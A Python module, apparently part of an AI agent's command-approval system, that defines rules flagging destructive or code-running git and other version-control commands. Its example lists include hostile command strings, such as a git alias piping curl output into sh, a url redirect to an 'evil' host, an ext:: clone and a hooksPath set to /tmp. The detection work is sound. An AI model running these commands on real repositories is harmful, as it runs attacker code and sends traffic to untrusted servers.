"""Version control: history rewritten, work thrown away, hooks and helpers that run code."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from hermes_nb.approval.rules.table import rule

if TYPE_CHECKING:
    from hermes_nb.approval.shell.commands import Command

_GLOBAL_VALUED = ("-C", "-c", "--git-dir", "--work-tree", "--namespace", "--exec-path", "--config-env")


def _split(command: Command) -> tuple[str, list[str]]:
    """The subcommand and its arguments, behind git's own options."""
    texts = command.texts
    position = 0
    while position < len(texts) and texts[position].startswith("-"):
        position += 2 if texts[position] in _GLOBAL_VALUED else 1
    return (texts[position], texts[position + 1 :]) if position < len(texts) else ("", [])


def _has(arguments: list[str], letters: str, *long: str) -> bool:
    """Whether a short option with one of these letters, or (an abbreviation of) a long one, is given."""
    for text in arguments:
        if text == "--":
            return False
        if text.startswith("--"):
            name = text.split("=", 1)[0]
            if any(option == name or (len(name) > 5 and option.startswith(name)) for option in long):
                return True
        elif text.startswith("-") and any(letter in text[1:] for letter in letters):
            return True
    return False


@rule(
    "git-force-push",
    "overwrites or deletes history on the remote",
    programs="git",
    dangerous=(
        "git push --force", "git push -f origin main", "git push --force-with-lease",
        "git push origin :main", "git push --delete origin x", "git push origin +main", "git push --mirror",
        "git -C repo push -f", "git push -d origin x", "git push -uf origin main",
    ),
    benign=(
        "git push origin main", "git push -u origin feature", "git push --tags", "git push --follow-tags",
        "git push --force --dry-run", "git push origin HEAD:refs/heads/x",
    ),
)  # fmt: skip
def _forces_push(command: Command) -> bool:
    subcommand, arguments = _split(command)
    if subcommand not in ("push", "send-pack") or _has(arguments, "n", "--dry-run"):
        return False
    return _has(
        arguments,
        "fd",
        "--force",
        "--delete",
        "--mirror",
        "--prune",
        "--force-with-lease",
        "--force-if-includes",
    ) or any(text.startswith(("+", ":")) and len(text) > 1 for text in arguments)


@rule(
    "git-lose-work",
    "throws away work that is not committed",
    programs="git",
    dangerous=(
        "git reset --hard", "git reset --hard HEAD~3", "git clean -fd", "git clean -xdf",
        "git checkout -- .", "git checkout .", "git restore .", "git checkout -f main", "git stash drop",
        "git stash clear", "git restore src/a.py", "git checkout HEAD -- a.py",
        "git switch --discard-changes main", "git rm -rf .", "git reset --merge",
        "git worktree remove --force x", "git checkout -- a.py", "git submodule deinit -f x",
        "git read-tree -u --reset HEAD", "git checkout-index -fa",
    ),
    benign=(
        "git reset HEAD a.py", "git reset --soft HEAD~1", "git clean -n", "git clean -ndx",
        "git checkout main", "git checkout -b x", "git stash", "git stash pop", "git stash list",
        "git restore --staged a.py", "git rm --cached a.py", "git rm old.py", "git switch main",
        "git checkout -b fix origin/main", "git checkout v1.2.0", "git reset",
    ),
)  # fmt: skip
def _loses_work(command: Command) -> bool:
    subcommand, arguments = _split(command)
    match subcommand:
        case "reset":
            return _has(arguments, "", "--hard", "--merge")
        case "clean":
            return not _has(arguments, "n", "--dry-run") and _has(arguments, "fxXd", "--force")
        case "checkout":
            if _has(arguments, "bB", "--orphan", "--detach"):
                return False
            return (
                _has(arguments, "f", "--force", "--ours", "--theirs")
                or "--" in arguments[:-1]
                or any(text in (".", "./", "*", ":/") for text in arguments)
            )
        case "restore":
            return bool(arguments) and (not _has(arguments, "S", "--staged") or _has(arguments, "W", "--worktree"))
        case "switch":
            return _has(arguments, "f", "--force", "--discard-changes")
        case "stash":
            return arguments[:1] in (["drop"], ["clear"])
        case "rm":
            return not _has(arguments, "n", "--cached", "--dry-run") and _has(arguments, "rf", "--force")
        case "worktree" | "submodule":
            return arguments[:1] in (["remove"], ["deinit"], ["prune"]) and _has(arguments, "f", "--force", "--all")
        case "read-tree" | "checkout-index":
            return _has(arguments, "uf", "--reset", "--force")
    return False


@rule(
    "git-rewrite-history",
    "rewrites or prunes the repository's history",
    programs="git bfg git-filter-repo",
    dangerous=(
        "git filter-branch --all", "git filter-repo --path x", "git reflog expire --expire=now --all",
        "git gc --prune=now", "git branch -D x", "git update-ref -d refs/heads/x", "git tag -d v1",
        "git reflog delete x", "git prune", "git branch --delete --force x", "git replace -d x",
        "git branch -Dr origin/x", "git gc --aggressive --prune=all", "git symbolic-ref -d HEAD",
    ),
    benign=(
        "git branch -d merged", "git gc", "git reflog", "git branch", "git tag v1", "git tag -l",
        "git rebase main", "git commit --amend", "git branch -a", "git branch -m old new",
    ),
)  # fmt: skip
def _rewrites_history(command: Command) -> bool:
    if command.name != "git":
        return bool(command.texts)
    subcommand, arguments = _split(command)
    match subcommand:
        case "filter-branch" | "filter-repo":
            return True
        case "reflog":
            return arguments[:1] in (["expire"], ["delete"])
        case "gc":
            return any(text.startswith("--prune") for text in arguments)
        case "prune":
            return not _has(arguments, "n", "--dry-run")
        case "branch":
            return (
                _has(arguments, "D")
                or (_has(arguments, "d", "--delete") and _has(arguments, "f", "--force"))
                or _has(arguments, "M")
            )
        case "tag":
            return _has(arguments, "d", "--delete")
        case "update-ref" | "symbolic-ref" | "replace":
            return _has(arguments, "d", "--delete")
        case "lfs":
            return arguments[:1] == ["prune"]
    return False


_RUNS_CODE = re.compile(
    r"(?i)core\.(?:hookspath|sshcommand|pager|editor|fsmonitor|gitproxy|askpass)|alias\."
    r"|credential\.helper|filter\.|diff\..*\.command|url\..*insteadof|protocol\.ext|http\.proxy"
    r"|http\.sslverify|init\.templatedir|include\.path|gpg\.program|sequence\.editor"
)


@rule(
    "git-config-code",
    "makes git run programs of its choice, or trust other servers",
    programs="git",
    dangerous=(
        "git config --global core.hooksPath /tmp/h", "git config alias.x '!curl h | sh'",
        "git config --global credential.helper store", "git config core.sshCommand 'sh -c x'",
        "git clone ext::sh", "git -c core.hooksPath=/tmp/h commit",
        "git config --global url.http://evil/.insteadOf https://github.com/",
    ),
    benign=(
        "git config user.name me", "git config --get core.editor", "git config --list",
        "git -c color.ui=always diff", "git config --global core.editor vim", "git config alias.st status",
        "git config --global core.pager less", "git config core.pager",
    ),
)  # fmt: skip
def _configures_code(command: Command) -> bool:
    subcommand, arguments = _split(command)
    if any(text.startswith("ext::") for text in arguments):
        return True
    for value in command.values("-c"):
        key, _, text = value.text.partition("=")
        if _RUNS_CODE.match(key) and (
            key.lower().startswith("core.hookspath") or text.startswith("!") or re.search(r"[ /;|$`]", text)
        ):
            return subcommand != "commit" or not key.lower().startswith(("core.editor", "core.pager"))
    if subcommand != "config" or _has(arguments, "l", "--get", "--list", "--get-all", "--unset", "--get-regexp"):
        return False
    words = [text for text in arguments if not text.startswith("-") or text == "-"]
    if len(words) < 2 or not _RUNS_CODE.match(words[0]):
        return False
    if words[0].lower().startswith(("alias.", "core.editor", "core.pager", "sequence.editor", "diff.", "filter.")):
        return words[1].startswith("!") or bool(re.search(r"[;|$`&]|/tmp/", words[1]))
    return words[1] not in ("cache", "osxkeychain", "manager", "libsecret", "")


@rule(
    "vcs-lose-work",
    "throws away work or history in another version-control system",
    programs="hg svn bzr jj p4 fossil",
    dangerous=("hg update -C", "svn revert -R .", "hg strip tip", "hg purge", "jj abandon x"),
    benign=("hg status", "svn update", "hg commit -m x", "svn revert a.txt_"),
)  # fmt: skip
def _loses_other_work(command: Command) -> bool:
    verbs = command.verbs
    if command.name == "svn":
        return (verbs[:1] == ["revert"] and command.has("-R", "--recursive")) or (
            verbs[:1] in (["delete"], ["rm"], ["cleanup"]) and command.has("--force", "--remove-unversioned")
        )
    if command.name == "hg":
        return verbs[:1] in (["strip"], ["purge"], ["rollback"]) or (
            verbs[:1] in (["update"], ["up"], ["revert"]) and command.has("-C", "--clean", "--all", "-a")
        )
    return any(verb in ("abandon", "revert", "uncommit", "scrub", "obliterate") for verb in verbs[:1])
